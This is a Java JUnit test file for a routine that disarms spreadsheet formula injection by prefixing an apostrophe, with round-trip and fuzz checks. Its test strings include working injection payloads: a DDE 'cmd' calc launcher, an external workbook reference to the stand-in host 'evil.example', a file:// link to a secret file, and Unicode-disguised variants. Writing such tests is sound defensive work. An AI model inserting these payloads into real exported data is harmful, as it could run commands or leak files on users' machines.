package org.segmentattribution.file;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetFormulaTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://x\",\"y\").jpg",
        "=cmd|' /C calc'!A0",
        "='\\\\evil.example\\s\\[a.xlsx]S'!A1",
        "='file://C:/secret.csv'#$secret.A1",
        "=1+1",
        "=",
        "+A1",
        "+49 30",
        "-2+3+cmd|' /C calc'!A0",
        "-dash.jpg",
        "@SUM(A1)",
        "@user (2)_2.png",
        " =f(1)",
        "\u00a0\u2003=f(1)",
        "\u200b\ufeff\u2060=f(1)",
        "\t=f(1)",
        "\tname",
        "\rname",
        "\"=f(1)",
        "\u201c=f(1)",
        "\u2018=f(1)",
        "\uff1dHYPERLINK(1)",
        "\uff0bA1",
        "\uff0dA1",
        "\uff20A1",
        "\u2212A1",
        "=a\nb(c)",
        "-1\n"
      })
  void formulasBeginWithAnApostropheAndComeBack(String text) {
    assertEquals("'" + text, SpreadsheetFormula.disarmed(text));
    assertEquals(text, SpreadsheetFormula.original("'" + text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "-1",
        "+1",
        "-1.5E-7",
        "-.5",
        "-Infinity",
        "NaN",
        "'-1",
        "zebra (1).jpg",
        "a=b(c)",
        "'",
        "'quoted'",
        "a@b.c",
        "e-mail",
        "001",
        "\u00e9",
        "l'eau-de-vie"
      })
  void otherTextsAndNumbersStayAsTheyAre(String text) {
    assertEquals(text, SpreadsheetFormula.original(text));
    assertEquals(text, SpreadsheetFormula.original(SpreadsheetFormula.disarmed(text)));
  }

  @ParameterizedTest
  @ValueSource(strings = {"-1", "+1", "-1.5E-7", "zebra (1).jpg", "a=b(c)", "'", "'quoted'", "001"})
  void harmlessTextsAreWrittenBare(String text) {
    assertEquals(text, SpreadsheetFormula.disarmed(text));
  }

  /** Also those that begin like what is written. */
  @Test
  void everyTextComesBack() {
    String[] parts = {"'", "''", "=", "+", "-", "1", "a", " ", "\t", "\"", "\uff1d", "\u200b", "E"};
    Random random = new Random(1);
    for (int i = 0; i < 100_000; i++) {
      StringBuilder text = new StringBuilder();
      for (int length = random.nextInt(6); length > 0; length--) {
        text.append(parts[random.nextInt(parts.length)]);
      }
      String written = SpreadsheetFormula.disarmed(text.toString());
      assertEquals(text.toString(), SpreadsheetFormula.original(written));
    }
  }
}
